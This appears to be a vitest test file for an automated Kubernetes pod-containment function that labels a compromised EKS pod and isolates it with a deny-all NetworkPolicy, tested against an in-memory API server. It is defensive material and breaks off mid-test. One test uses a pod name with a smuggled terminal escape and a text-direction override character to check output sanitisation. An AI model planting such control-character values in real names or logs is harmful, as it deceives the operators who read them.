/**
 * isolate-pod against an in-memory Kubernetes API: the client methods the function may
 * call (`KubeClients`), answering like the API server does (404/409/422 Status bodies,
 * merge patches, the patch content type checked on every patch).
 */
import {
  ApiException,
  HttpMethod,
  PatchStrategy,
  RequestContext,
  type AppsV1ApiReadNamespacedReplicaSetRequest,
  type ConfigurationOptions,
  type CoreV1ApiDeleteNamespacedPodRequest,
  type CoreV1ApiListNodeRequest,
  type CoreV1ApiPatchNamespacedPodRequest,
  type CoreV1ApiPatchNodeRequest,
  type CoreV1ApiReadNamespacedPodRequest,
  type CoreV1ApiReadNodeRequest,
  type CustomObjectsApiCreateClusterCustomObjectRequest,
  type CustomObjectsApiGetClusterCustomObjectRequest,
  type NetworkingV1ApiCreateNamespacedNetworkPolicyRequest,
  type NetworkingV1ApiListNamespacedNetworkPolicyRequest,
  type NetworkingV1ApiReadNamespacedNetworkPolicyRequest,
  type ObservableMiddleware,
  type V1NetworkPolicy,
  type V1Node,
  type V1Pod,
  type V1ReplicaSet,
} from '@kubernetes/client-node';
import { parse } from 'shell-quote';
import { beforeEach, describe, expect, it } from 'vitest';
import { ACTIONS } from '../../shared/actions.js';
import { parseContainmentRequest, type RequestFor } from '../../shared/containment.js';
import {
  ContainmentResultSchema,
  type ActionId,
  type ContainmentResult,
} from '../../shared/contracts.js';
import { containmentRequest, evaluate } from '../../shared/decide.js';
import {
  CORDONED_LABEL,
  FINDING_ANNOTATION,
  QUARANTINE_LABEL,
  networkPolicyName,
} from '../../shared/labels.js';
import { defaultPolicy } from '../../shared/policy.js';
import {
  CONTAINED_AT_ANNOTATION,
  DETACHED_LABELS_ANNOTATION,
} from '../../functions/isolate-pod/annotations.js';
import { containPod, containPodIn, ENFORCEMENT_NOTE } from '../../functions/isolate-pod/contain.js';
import {
  quarantinedValue,
  relabelling,
  selectorMatches,
} from '../../functions/isolate-pod/detach.js';
import { sightingsIn } from '../../functions/isolate-pod/find-pod.js';
import { podListReader, type PodIdentityPage } from '../../functions/isolate-pod/pod-identities.js';
import type { PodListParams } from '../../functions/isolate-pod/pod-scan.js';
import {
  KUBE_CALLS,
  rulesOf,
  type KubeCall,
  type KubeClients,
} from '../../functions/isolate-pod/kube.js';
import { loadEvent, mergePatch } from '../helpers.js';

type Request = RequestFor<'eks-pod'>;

// ---------------------------------------------------------------- the in-memory API server

type Json = Record<string, any>;
const clone = <T>(value: T): T => structuredClone(value);

/** A pod list as JSON, through the streaming reader. */
function identitiesIn(list: Json): PodIdentityPage {
  const reader = podListReader();
  reader.write(JSON.stringify(list));
  return reader.end();
}

/** An ApiException exactly as client-node raises it: HTTP status and the Status body as text. */
function apiError(code: number, reason: string, message: string): ApiException<string> {
  const body = JSON.stringify({ kind: 'Status', status: 'Failure', reason, message, code });
  return new ApiException(code, 'Unknown API Status Code!', body, {
    'content-type': 'application/json',
  });
}
const forbidden = (verb: string, resource: string, group = '') =>
  apiError(
    403,
    'Forbidden',
    `${resource} is forbidden: User "arn:aws:iam::123456789012:role/gdrr-isolate-pod" cannot ${verb} resource "${resource}" in API group "${group}"`,
  );
const notFound = (resource: string, name: string) =>
  apiError(404, 'NotFound', `${resource} "${name}" not found`);

/** The Content-Type a request made with these options carries (the middleware runs on a real RequestContext). */
async function contentTypeOf(options: unknown): Promise<string | undefined> {
  const request = new RequestContext('https://k8s.invalid/api/v1/pods', HttpMethod.PATCH);
  // What the generated client sets before the middleware runs.
  request.setHeaderParam('Content-Type', PatchStrategy.JsonPatch);
  const middleware = (options as ConfigurationOptions<ObservableMiddleware> | undefined)
    ?.middleware;
  for (const step of middleware ?? []) await step.pre(request).toPromise();
  return request.getHeaders()['Content-Type'];
}

interface Call {
  method: KubeCall;
  param: Json;
  contentType?: string;
}

class FakeCluster {
  pods = new Map<string, V1Pod>();
  nodes = new Map<string, V1Node>();
  policies = new Map<string, V1NetworkPolicy>();
  replicaSets = new Map<string, V1ReplicaSet>();
  /** Tier objects by `group/plural/namespace/name`. */
  customObjects = new Map<string, unknown>();
  /** API discovery: `group/version` to the resources it serves (none served by default). */
  servedTiers = new Map<string, string[]>();
  calls: Call[] = [];
  /** One-shot failures per method (the next call fails). */
  failNext = new Map<KubeCall, ApiException<string> | Error>();
  /** Run before a method answers (e.g. to simulate a concurrent writer). */
  before = new Map<KubeCall, () => void>();

  private async enter(method: KubeCall, param: Json, options?: unknown) {
    const contentType = method.startsWith('patch') ? await contentTypeOf(options) : undefined;
    this.calls.push({ method, param: clone(param), contentType });
    this.before.get(method)?.();
    const failure = this.failNext.get(method);
    if (failure) {
      this.failNext.delete(method);
      throw failure;
    }
    if (contentType !== undefined && contentType !== PatchStrategy.MergePatch) {
      // What the real API server answers to an object body sent as a JSON patch.
      throw apiError(
        400,
        'BadRequest',
        'json: cannot unmarshal object into Go value of type jsonpatch.Patch',
      );
    }
  }

  writes = () => this.calls.filter((c) => /^(patch|create)/.test(c.method));
  callsTo = (method: KubeCall) => this.calls.filter((c) => c.method === method);

  clients(): KubeClients {
    const core = {
      readNamespacedPod: async (param: CoreV1ApiReadNamespacedPodRequest) => {
        await this.enter('readNamespacedPod', param);
        const pod = this.pods.get(`${param.namespace}/${param.name}`);
        if (!pod) throw notFound('pods', param.name);
        return clone(pod);
      },
      deleteNamespacedPod: async (param: CoreV1ApiDeleteNamespacedPodRequest) => {
        await this.enter('deleteNamespacedPod', param);
        const key = `${param.namespace}/${param.name}`;
        const pod = this.pods.get(key);
        if (!pod) throw notFound('pods', param.name);
        const uid = param.body?.preconditions?.uid;
        if (uid !== undefined && uid !== pod.metadata?.uid) {
          throw apiError(409, 'Conflict', `Precondition failed: UID in precondition: ${uid}`);
        }
        this.pods.delete(key);
        return clone(pod);
      },
      patchNamespacedPod: async (param: CoreV1ApiPatchNamespacedPodRequest, options?: unknown) => {
        await this.enter('patchNamespacedPod', param, options);
        const key = `${param.namespace}/${param.name}`;
        const pod = this.pods.get(key);
        if (!pod) throw notFound('pods', param.name);
        const uid = (param.body as Json).metadata?.uid;
        if (uid !== undefined && uid !== pod.metadata?.uid) {
          throw apiError(
            422,
            'Invalid',
            `Pod "${param.name}" is invalid: metadata.uid: field is immutable`,
          );
        }
        const patched = mergePatch(pod, param.body) as V1Pod;
        this.pods.set(key, patched);
        return clone(patched);
      },
      readNode: async (param: CoreV1ApiReadNodeRequest) => {
        await this.enter('readNode', param);
        const node = this.nodes.get(param.name);
        if (!node) throw notFound('nodes', param.name);
        return clone(node);
      },
      listNode: async (param: CoreV1ApiListNodeRequest = {}) => {
        await this.enter('listNode', param);
        const [key, value] = (param.labelSelector ?? '').split('=');
        const items = [...this.nodes.values()].filter(
          (n) => key === undefined || key === '' || n.metadata?.labels?.[key] === value,
        );
        return { items: items.map(clone), metadata: {} };
      },
      patchNode: async (param: CoreV1ApiPatchNodeRequest, options?: unknown) => {
        await this.enter('patchNode', param, options);
        const node = this.nodes.get(param.name);
        if (!node) throw notFound('nodes', param.name);
        const patched = mergePatch(node, param.body) as V1Node;
        this.nodes.set(param.name, patched);
        return clone(patched);
      },
    };
    const networking = {
      readNamespacedNetworkPolicy: async (
        param: NetworkingV1ApiReadNamespacedNetworkPolicyRequest,
      ) => {
        await this.enter('readNamespacedNetworkPolicy', param);
        const policy = this.policies.get(`${param.namespace}/${param.name}`);
        if (!policy) throw notFound('networkpolicies.networking.k8s.io', param.name);
        return clone(policy);
      },
      listNamespacedNetworkPolicy: async (
        param: NetworkingV1ApiListNamespacedNetworkPolicyRequest,
      ) => {
        await this.enter('listNamespacedNetworkPolicy', param);
        // One policy per page, so paging is exercised.
        const all = [...this.policies.values()].filter(
          (p) => p.metadata?.namespace === param.namespace,
        );
        const start = Number(param._continue ?? 0);
        const next = start + 1 < all.length ? String(start + 1) : undefined;
        return { items: all.slice(start, start + 1).map(clone), metadata: { _continue: next } };
      },
      createNamespacedNetworkPolicy: async (
        param: NetworkingV1ApiCreateNamespacedNetworkPolicyRequest,
      ) => {
        await this.enter('createNamespacedNetworkPolicy', param);
        const key = `${param.namespace}/${param.body.metadata?.name}`;
        if (this.policies.has(key)) {
          throw apiError(
            409,
            'AlreadyExists',
            `networkpolicies.networking.k8s.io "${param.body.metadata?.name}" already exists`,
          );
        }
        this.policies.set(key, clone(param.body));
        return clone(param.body);
      },
    };
    const apps = {
      readNamespacedReplicaSet: async (param: AppsV1ApiReadNamespacedReplicaSetRequest) => {
        await this.enter('readNamespacedReplicaSet', param);
        const rs = this.replicaSets.get(`${param.namespace}/${param.name}`);
        if (!rs) throw notFound('replicasets.apps', param.name);
        return clone(rs);
      },
    };
    const key = (param: { group: string; plural: string; namespace?: string; name?: string }) =>
      `${param.group}/${param.plural}/${param.namespace ?? ''}/${param.name ?? ''}`;
    const createCustom = async (
      method: KubeCall,
      param: { group: string; version: string; plural: string; namespace?: string; body: unknown },
    ) => {
      await this.enter(method, param);
      const name = (param.body as Json).metadata.name as string;
      const at = key({ ...param, name });
      if (this.customObjects.has(at))
        throw apiError(409, 'AlreadyExists', `"${name}" already exists`);
      this.customObjects.set(at, clone(param.body));
      return clone(param.body);
    };
    const getCustom = async (
      method: KubeCall,
      param: { group: string; plural: string; namespace?: string; name: string },
    ) => {
      await this.enter(method, param);
      const object = this.customObjects.get(key(param));
      if (object === undefined) throw notFound(param.plural, param.name);
      return clone(object);
    };
    const custom = {
      getAPIResources: async (param: { group: string; version: string }) => {
        await this.enter('getAPIResources', param);
        const served = this.servedTiers.get(`${param.group}/${param.version}`);
        if (served === undefined)
          throw apiError(404, 'NotFound', 'the server could not find the requested resource');
        return {
          groupVersion: `${param.group}/${param.version}`,
          resources: served.map((name) => ({
            name,
            kind: name,
            namespaced: false,
            singularName: '',
            verbs: [],
          })),
        };
      },
      createClusterCustomObject: (param: CustomObjectsApiCreateClusterCustomObjectRequest) =>
        createCustom('createClusterCustomObject', param),
      getClusterCustomObject: (param: CustomObjectsApiGetClusterCustomObjectRequest) =>
        getCustom('getClusterCustomObject', param),
    };
    const podScan: KubeClients['podScan'] = {
      listPodIdentities: async (param: PodListParams) => {
        await this.enter('listPodIdentities', param);
        // Two pods per page, so paging is exercised; `spec.nodeName=` is the one field
        // selector the function sends.
        const onNode = /^spec\.nodeName=(.+)$/.exec(param.fieldSelector ?? '')?.[1];
        const all = [...this.pods.values()].filter(
          (p) =>
            p.metadata?.namespace === param.namespace &&
            (onNode === undefined || p.spec?.nodeName === onNode),
        );
        const start = Number(param.continue ?? 0);
        const items = all.slice(start, start + 2);
        const next = start + 2 < all.length ? String(start + 2) : undefined;
        // The page as the API server sends it, read the way the function reads it.
        return identitiesIn({ kind: 'PodList', metadata: { continue: next }, items });
      },
    };
    return { core, networking, apps, custom, podScan };
  }

  addPod(pod: V1Pod) {
    this.pods.set(`${pod.metadata?.namespace}/${pod.metadata?.name}`, clone(pod));
  }
  pod(namespace: string, name: string): V1Pod {
    return this.pods.get(`${namespace}/${name}`)!;
  }
  addNode(name: string, extra: Partial<V1Node> = {}) {
    this.nodes.set(name, {
      metadata: { name, uid: `uid-${name}`, ...extra.metadata },
      spec: { ...extra.spec },
    });
  }
}

// ---------------------------------------------------------------- requests and pods

const CONTAINER_ID_PATTERN = /^[0-9a-f]{64}$/;
/** API discovery of the deny tiers and plugin policy kinds (four group versions), made alongside the pod lookup. */
const DISCOVERY = Array.from({ length: 4 }, () => 'getAPIResources' as const);
const NOW = new Date('2026-11-21T10:00:00.000Z');

/** A request made by the router from a sample event with the default policy. */
function requestFrom(event: string, change: (request: Json) => void = () => {}): Request {
  const policy = defaultPolicy();
  const request = containmentRequest(evaluate(loadEvent(event), policy), policy) as Json | null;
  if (request === null) throw new Error(`${event} is not contained by the default policy`);
  change(request);
  return parseContainmentRequest(request, 'eks-pod');
}

/** events/eks-reverse-shell.json: pod payments/checkout-api-7c9f8b6d5-x2k4q, named with its uid. */
const named = (change?: (request: Json) => void) => requestFrom('eks-reverse-shell.json', change);
/** events/eks-container-id-only.json: namespace inventory, only a container id. */
const byContainer = (change?: (request: Json) => void) =>
  requestFrom('eks-container-id-only.json', change);

function victimPod(
  request: Request,
  extra: {
    labels?: Record<string, string>;
    annotations?: Record<string, string>;
    spec?: Json;
    owner?: Json;
    hostNetwork?: boolean;
  } = {},
): V1Pod {
  const { target } = request;
  return {
    metadata: {
      name: target.podName ?? 'worker-5d8f7c9b4-abcde',
      namespace: target.namespace,
      uid: target.podUid ?? '3f0c2f1e-1a2b-4c3d-8e9f-0a1b2c3d4e5f',
      labels: { app: 'victim', 'pod-template-hash': '7c9f8b6d5', ...extra.labels },
      annotations: extra.annotations,
      ownerReferences: extra.owner ? [extra.owner as any] : undefined,
    },
    spec: {
      nodeName: 'ip-10-0-1-23.ec2.internal',
      hostNetwork: extra.hostNetwork,
      containers: [{ name: 'app', image: 'registry.example/app:1' }],
    },
    status: {
      containerStatuses: target.containerIds.map((id, index) => ({
        name: `c${index}`,
        containerID: `containerd://${id}`,
        image: 'registry.example/app:1',
        imageID: '',
        ready: true,
        restartCount: 0,
      })),
    },
  };
}

/** The victim pod, owned by ReplicaSet `rs`, which selects `app=victim`. */
function seedReplicaSetPod(request: Request): void {
  cluster.addPod(
    victimPod(request, {
      owner: { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'rs', uid: 'u', controller: true },
    }),
  );
  cluster.replicaSets.set(`${request.target.namespace}/rs`, {
    spec: { selector: { matchLabels: { app: 'victim' } } },
  });
}

function otherPod(namespace: string, name: string, containerId: string): V1Pod {
  return {
    metadata: { name, namespace, uid: `0000000${name.length}-0000-4000-8000-000000000000` },
    spec: { nodeName: 'ip-10-0-9-9.ec2.internal', containers: [{ name: 'x', image: 'x' }] },
    status: {
      containerStatuses: [
        {
          name: 'x',
          containerID: `containerd://${containerId}`,
          image: 'x',
          imageID: '',
          ready: true,
          restartCount: 0,
        },
      ],
    },
  };
}

let cluster: FakeCluster;
beforeEach(() => {
  cluster = new FakeCluster();
});

/** Run and check the answer against the contract the router enforces. */
async function contain(request: Request): Promise<ContainmentResult> {
  const result = await containPod(request, { kube: cluster.clients(), now: () => NOW });
  expect(ContainmentResultSchema.safeParse(result).success).toBe(true);
  expect(result.outcomes.map((o) => o.action)).toEqual(request.actions);
  return result;
}
const statuses = (result: ContainmentResult) =>
  Object.fromEntries(result.outcomes.map((o) => [o.action, o.status]));
const outcomeOf = (result: ContainmentResult, action: ActionId) =>
  result.outcomes.find((o) => o.action === action)!;

// ---------------------------------------------------------------- finding the pod

describe('finding the pod', () => {
  it('by name: labels it with its uid, annotates it, and creates the NetworkPolicy', async () => {
    const request = named();
    const pod = victimPod(request);
    cluster.addPod(pod);
    const result = await contain(request);
    expect(statuses(result)).toEqual({
      'eks:label-pod': 'contained',
      'eks:isolate-pod-network': 'contained',
    });
    const uid = request.target.podUid!;
    const labelled = cluster.pod('payments', request.target.podName!);
    expect(labelled.metadata?.labels).toEqual({ ...pod.metadata?.labels, [QUARANTINE_LABEL]: uid });
    expect(labelled.metadata?.annotations).toEqual({
      [FINDING_ANNOTATION]: request.findingId,
      [CONTAINED_AT_ANNOTATION]: NOW.toISOString(),
    });
    // Label and policy side by side (the policy selects the label); no read of the policy first.
    expect(
      cluster
        .writes()
        .map((c) => c.method)
        .sort(),
    ).toEqual(['createNamespacedNetworkPolicy', 'patchNamespacedPod']);
    expect(cluster.callsTo('readNamespacedNetworkPolicy')).toEqual([]);
    expect(cluster.policies.get(`payments/${networkPolicyName(uid)}`)).toEqual({
      apiVersion: 'networking.k8s.io/v1',
      kind: 'NetworkPolicy',
      metadata: {
        name: networkPolicyName(uid),
        namespace: 'payments',
        labels: { [QUARANTINE_LABEL]: uid },
        annotations: { [FINDING_ANNOTATION]: request.findingId },
      },
      spec: {
        podSelector: { matchLabels: { [QUARANTINE_LABEL]: uid } },
        policyTypes: ['Ingress', 'Egress'],
      },
    });
    expect(cluster.callsTo('listPodIdentities')).toEqual([]);
    expect(result.notes).toContain(ENFORCEMENT_NOTE);
    expect(result.notes.join(' ')).toMatch(/network plugin.*Calico.*Cilium.*already had are cut/);
    expect(result.release).toBe(
      [
        'aws eks update-kubeconfig --region us-east-1 --name prod-eks',
        `kubectl -n payments delete networkpolicy ${networkPolicyName(uid)}`,
        `kubectl -n payments label pod ${request.target.podName} ${QUARANTINE_LABEL}-`,
        `kubectl -n payments annotate pod ${request.target.podName} ${FINDING_ANNOTATION}- ${CONTAINED_AT_ANNOTATION}-`,
      ].join('; '),
    );
  });

  it('by container id: lists pods of the finding namespace only, across pages', async () => {
    const request = byContainer((r) => {
      delete r.target.nodeName;
    });
    const [wanted] = request.target.containerIds;
    expect(wanted).toMatch(CONTAINER_ID_PATTERN);
    cluster.addPod(otherPod('inventory', 'a', '1'.repeat(64)));
    cluster.addPod(otherPod('inventory', 'b', '2'.repeat(64)));
    cluster.addPod(otherPod('other', 'c', wanted!));
    cluster.addPod(victimPod(request));
    const result = await contain(request);
    expect(statuses(result)).toEqual({
      'eks:label-pod': 'contained',
      'eks:isolate-pod-network': 'contained',
    });
    expect(
      cluster.callsTo('listPodIdentities').map((c) => [c.param.namespace, c.param.continue]),
    ).toEqual([
      ['inventory', undefined],
      ['inventory', '2'],
    ]);
    expect(outcomeOf(result, 'eks:label-pod').evidence).toMatchObject({
      pod: 'inventory/worker-5d8f7c9b4-abcde',
      foundBy: 'container id',
    });
    expect(cluster.pod('other', 'c').metadata?.labels).toBeUndefined();
  });

  it('matches a container id given with its runtime prefix, and init containers too', async () => {
    const request = byContainer((r) => {
      r.target.containerIds = [`containerd://${r.target.containerIds[0]}`];
    });
    const pod = victimPod(byContainer());
    pod.status = { initContainerStatuses: pod.status?.containerStatuses };
    cluster.addPod(pod);
    expect(statuses(await contain(request))['eks:label-pod']).toBe('contained');
  });

  it("by container id on the finding's node: small pages selected by spec.nodeName, then the one pod read in full", async () => {
    const request = byContainer();
    const node = request.target.nodeName!;
    expect(node).toBe('ip-10-20-70-141.ec2.internal');
    const [wanted] = request.target.containerIds;
    // The same id reported by a pod on another node: not the node the finding is about.
    cluster.addPod(otherPod('inventory', 'elsewhere', wanted!));
    const pod = victimPod(request, { annotations: { big: 'x'.repeat(1000) } });
    pod.spec!.nodeName = node;
    cluster.addPod(pod);
    const result = await contain(request);
    expect(statuses(result)['eks:label-pod']).toBe('contained');
    expect(cluster.callsTo('listPodIdentities').map((c) => c.param)).toEqual([
      { namespace: 'inventory', limit: 100, fieldSelector: `spec.nodeName=${node}` },
    ]);
    expect(cluster.callsTo('readNamespacedPod').map((c) => c.param)).toEqual([
      { name: 'worker-5d8f7c9b4-abcde', namespace: 'inventory' },
    ]);
    expect(cluster.pod('inventory', 'elsewhere').metadata?.labels).toBeUndefined();
  });

  it("a node name that is not the pod's node: looked for in the whole namespace next", async () => {
    const request = byContainer();
    // The node group names nodes otherwise than by the private DNS name.
    const pod = victimPod(request);
    pod.spec!.nodeName = 'i-0123456789abcdef0.ec2.internal';
    cluster.addPod(pod);
    const result = await contain(request);
    expect(statuses(result)['eks:label-pod']).toBe('contained');
    expect(cluster.callsTo('listPodIdentities').map((c) => c.param.fieldSelector)).toEqual([
      'spec.nodeName=ip-10-20-70-141.ec2.internal',
      undefined,
    ]);
  });

  it('two pods report the container id: failed, not retryable, naming both; nothing read further or written', async () => {
    const request = byContainer((r) => {
      delete r.target.nodeName;
    });
    const [wanted] = request.target.containerIds;
    cluster.addPod(otherPod('inventory', 'first', wanted!));
    cluster.addPod(otherPod('inventory', 'second', wanted!));
    for (const name of ['c', 'd', 'e']) cluster.addPod(otherPod('inventory', name, '3'.repeat(64)));
    const result = await contain(request);
    expect(result.outcomes.map((o) => [o.status, o.retryable])).toEqual([
      ['failed', false],
      ['failed', false],
    ]);
    expect(result.outcomes[0]?.detail).toBe(
      'pods inventory/first and inventory/second both report container 845dae0c88b5: which one the finding is about is not certain, so neither is contained',
    );
    // Certain after the first page: the rest is not read.
    expect(cluster.callsTo('listPodIdentities')).toHaveLength(1);
    expect(cluster.callsTo('readNamespacedPod')).toEqual([]);
    expect(cluster.writes()).toEqual([]);
  });

  it('the pod seen in the list was replaced or restarted before it was read in full: skipped', async () => {
    const request = byContainer();
    cluster.addPod(victimPod(request));
    cluster.before.set('readNamespacedPod', () => {
      cluster.pod('inventory', 'worker-5d8f7c9b4-abcde').metadata!.uid =
        '11111111-2222-4333-8444-555555555555';
    });
    const replaced = await contain(request);
    expect(replaced.outcomes.map((o) => [o.status, o.detail])).toEqual([
      ['skipped', 'pod inventory/worker-5d8f7c9b4-abcde was replaced while it was being looked up'],
      ['skipped', 'pod inventory/worker-5d8f7c9b4-abcde was replaced while it was being looked up'],
    ]);

    cluster = new FakeCluster();
    cluster.addPod(victimPod(request));
    cluster.before.set('readNamespacedPod', () => {
      cluster.pod('inventory', 'worker-5d8f7c9b4-abcde').status = { containerStatuses: [] };
    });
    const restarted = await contain(request);
    expect(restarted.outcomes[0]).toMatchObject({ status: 'skipped' });
    expect(restarted.outcomes[0]?.detail).toMatch(/no longer runs container 845dae0c88b5/);
    expect(cluster.writes()).toEqual([]);
  });

  it('keeps nothing of a scanned page but the names of the pods that match', () => {
    const request = byContainer();
    const pod = victimPod(request, { annotations: { big: 'x'.repeat(1000) } });
    const wanted = new Set(request.target.containerIds);
    const page = identitiesIn({ items: [otherPod('inventory', 'a', '1'.repeat(64)), pod] });
    expect(sightingsIn(page.items, wanted)).toEqual([
      {
        name: 'worker-5d8f7c9b4-abcde',
        namespace: 'inventory',
        uid: '3f0c2f1e-1a2b-4c3d-8e9f-0a1b2c3d4e5f',
        nodeName: 'ip-10-0-1-23.ec2.internal',
      },
    ]);
  });

  it('no pod runs the container: skipped, nothing written', async () => {
    const request = byContainer();
    cluster.addPod(otherPod('inventory', 'a', '1'.repeat(64)));
    const result = await contain(request);
    expect(result.outcomes.every((o) => o.status === 'skipped')).toBe(true);
    expect(result.outcomes[0]?.detail).toMatch(
      /^no pod in namespace inventory runs container 845dae0c88b5/,
    );
    expect(cluster.writes()).toEqual([]);
    expect(result.release).toBeUndefined();
  });

  it('the named pod is gone: skipped with that reason', async () => {
    const result = await contain(named());
    expect(result.outcomes.map((o) => [o.status, o.detail])).toEqual([
      ['skipped', 'pod payments/checkout-api-7c9f8b6d5-x2k4q no longer exists'],
      ['skipped', 'pod payments/checkout-api-7c9f8b6d5-x2k4q no longer exists'],
    ]);
  });

  it('a pod of the same name with another uid was replaced: skipped, never labelled', async () => {
    const request = named();
    const replacement = victimPod(request);
    replacement.metadata!.uid = '11111111-2222-4333-8444-555555555555';
    cluster.addPod(replacement);
    const result = await contain(request);
    expect(result.outcomes.every((o) => o.status === 'skipped')).toBe(true);
    expect(result.outcomes[0]?.detail).toContain(
      'was replaced: it now has uid 11111111-2222-4333-8444-555555555555',
    );
    expect(cluster.writes()).toEqual([]);
  });

  it('a pod replaced between the read and the patch is not labelled (uid precondition)', async () => {
    const request = named();
    cluster.addPod(victimPod(request));
    cluster.before.set('patchNamespacedPod', () => {
      cluster.pod('payments', request.target.podName!).metadata!.uid =
        '11111111-2222-4333-8444-555555555555';
    });
    const result = await contain(request);
    expect(outcomeOf(result, 'eks:label-pod')).toMatchObject({
      status: 'failed',
      retryable: false,
    });
    expect(outcomeOf(result, 'eks:label-pod').detail).toContain('metadata.uid: field is immutable');
    expect(outcomeOf(result, 'eks:isolate-pod-network')).toMatchObject({
      status: 'failed',
      retryable: false,
    });
    expect(outcomeOf(result, 'eks:isolate-pod-network').detail).toMatch(
      /^pod payments\/checkout-api-7c9f8b6d5-x2k4q is NOT isolated: .*quarantine label, which is not on it \(label step: failed\)/,
    );
    // The policy made alongside the label selects only the uid that was read, which no pod
    // carries: the replacement is neither labelled nor selected. Nothing is deleted.
    const replacement = cluster.pod('payments', request.target.podName!);
    expect(replacement.metadata?.labels?.[QUARANTINE_LABEL]).toBeUndefined();
    expect(cluster.callsTo('createNamespacedNetworkPolicy')).toHaveLength(1);
    expect([...cluster.policies.values()].map((p) => p.spec?.podSelector)).toEqual([
      { matchLabels: { [QUARANTINE_LABEL]: request.target.podUid } },
    ]);
  });

  it('shows names read from the cluster with control characters made visible', async () => {
    const request = byContainer();
    const pod = victimPod(request);
    pod.metadata!.name = 'evil\u001b[2J\u202epod';
    cluster.addPod(pod);
    const result = await contain(request);
    const text = JSON.stringify(result);
    expect(text).not.toMatch(/[\u001b\u202e]/);
    expect(outcomeOf(result, 'eks:label-pod').detail).toContain('evil\\x1B[2J\\u202Epod');
  });
});

// ---------------------------------------------------------------- refusals

describe('refusals', () => {
  it('a protected namespace is refused before any call, even when the router let it through', async () => {
    const request = named((r) => {
      r.target.namespace = 'kube-system';
    });
    let connected = false;
    const result = await containPodIn(request, () => {
      connected = true;
      return Promise.reject(new Error('must not connect'));
    });
    expect(connected).toBe(false);
    expect(result.outcomes.map((o) => [o.status, o.detail])).toEqual([
      ['skipped', 'namespace kube-system is protected: never contained automatically'],
      ['skipped', 'namespace kube-system is protected: never contained automatically'],
    ]);
    await contain(request);
    expect(cluster.calls).toEqual([]);
  });

  it.each([
    ['label', 'true'],
    ['label', ''],
    ['annotation', 'yes'],
  ])('the exemption %s (value "%s") skips every action', async (kind, value) => {
    const request = named();
    const key = request.exemptionKey;
    cluster.addPod(
      victimPod(
        request,
        kind === 'label' ? { labels: { [key]: value } } : { annotations: { [key]: value } },
      ),
    );
    const result = await contain(request);
    expect(result.outcomes.map((o) => o.status)).toEqual(['skipped', 'skipped']);
    expect(result.outcomes[0]?.detail).toBe(
      `pod payments/checkout-api-7c9f8b6d5-x2k4q carries the exemption ${kind} guardduty-responder/exempt`,
    );
    expect(cluster.writes()).toEqual([]);
  });

  it('an exemption set to "false" does not exempt', async () => {
    const request = named();
    cluster.addPod(victimPod(request, { labels: { [request.exemptionKey]: 'False' } }));
    expect(statuses(await contain(request))['eks:label-pod']).toBe('contained');
  });

  it('a request without eks settings fails every action, not retryable, without any call', async () => {
    const request = named((r) => {
      delete r.eks;
    });
    const result = await contain(request);
    expect(result.outcomes.map((o) => [o.status, o.retryable])).toEqual([
      ['failed', false],
      ['failed', false],
    ]);
    expect(cluster.calls).toEqual([]);
  });
});

// ---------------------------------------------------------------- the NetworkPolicy

describe('isolating the pod network', () => {
  it('allowDnsEgress: egress only to kube-dns in kube-system on UDP and TCP 53', async () => {
    const request = named((r) => {
      r.eks.allowDnsEgress = true;
    });
    cluster.addPod(victimPod(request));
    const result = await contain(request);
    const policy = [...cluster.policies.values()][0]!;
    expect(policy.spec?.ingress).toBeUndefined();
    expect(policy.spec?.egress).toEqual([
      {
        to: [
          {
            namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': 'kube-system' } },
            podSelector: { matchLabels: { 'k8s-app': 'kube-dns' } },
          },
        ],
        ports: [
          { protocol: 'UDP', port: 53 },
          { protocol: 'TCP', port: 53 },
        ],
      },
    ]);
    expect(outcomeOf(result, 'eks:isolate-pod-network').detail).toContain(
      'egress to cluster DNS only',
    );
    expect(result.notes.join(' ')).toContain('cluster DNS');
  });

  it('409 AlreadyExists on create (a concurrent run): read back, same policy, already-contained', async () => {
    const request = named();
    cluster.addPod(victimPod(request));
    const uid = request.target.podUid!;
    cluster.before.set('createNamespacedNetworkPolicy', () => {
      cluster.before.delete('createNamespacedNetworkPolicy');
      // Another invocation created it first.
      cluster.policies.set(`payments/${networkPolicyName(uid)}`, {
        metadata: { name: networkPolicyName(uid), namespace: 'payments' },
        spec: {
          podSelector: { matchLabels: { [QUARANTINE_LABEL]: uid } },
          policyTypes: ['Egress', 'Ingress'],
        },
      });
    });
    const result = await contain(request);
    expect(outcomeOf(result, 'eks:isolate-pod-network')).toMatchObject({
      status: 'already-contained',
      detail: `NetworkPolicy payments/${networkPolicyName(uid)} already denies all ingress and egress of pod payments/checkout-api-7c9f8b6d5-x2k4q`,
    });
    // Created directly; read back only after the 409, to compare.
    const methods = cluster.calls.map((c) => c.method);
    expect([...methods].sort()).toEqual([
      'createNamespacedNetworkPolicy',
      ...DISCOVERY,
      'listNamespacedNetworkPolicy',
      'patchNamespacedPod',
      'readNamespacedNetworkPolicy',
      'readNamespacedPod',
    ]);
    expect(methods.indexOf('readNamespacedNetworkPolicy')).toBeGreaterThan(
      methods.indexOf('createNamespacedNetworkPolicy'),
    );
    expect(result.release).toContain(
      `kubectl -n payments delete networkpolicy ${networkPolicyName(uid)}`,
    );
  });

  it.each([
    [
      'selects something else',
      { podSelector: { matchLabels: { app: 'victim' } }, policyTypes: ['Ingress', 'Egress'] },
      /it selects \{"matchLabels":\{"app":"victim"\}\}/,
    ],
    [
      'blocks ingress only',
      { podSelector: { matchLabels: { [QUARANTINE_LABEL]: 'UID' } }, policyTypes: ['Ingress'] },
      /policy types are Ingress, not Ingress and Egress/,
    ],
    [
      'allows ingress',
      {
        podSelector: { matchLabels: { [QUARANTINE_LABEL]: 'UID' } },
        policyTypes: ['Ingress', 'Egress'],
        ingress: [{}],
      },
      /it allows ingress/,
    ],
    [
      'allows egress',
      {
        podSelector: { matchLabels: { [QUARANTINE_LABEL]: 'UID' } },
        policyTypes: ['Ingress', 'Egress'],
        egress: [{}],
      },
      /egress rules differ/,
    ],
  ])(
    'a policy of that name that %s: failed, not retryable, naming the conflict',
    async (_what, spec, message) => {
      const request = named();
      cluster.addPod(victimPod(request));
      const uid = request.target.podUid!;
      const withUid = JSON.parse(JSON.stringify(spec).replaceAll('UID', uid));
      const existing = { metadata: { name: networkPolicyName(uid) }, spec: withUid };
      cluster.policies.set(`payments/${networkPolicyName(uid)}`, clone(existing));
      const result = await contain(request);
      const isolation = outcomeOf(result, 'eks:isolate-pod-network');
      expect(isolation).toMatchObject({ status: 'failed', retryable: false });
      expect(isolation.detail).toMatch(/exists but is not this pod's quarantine/);
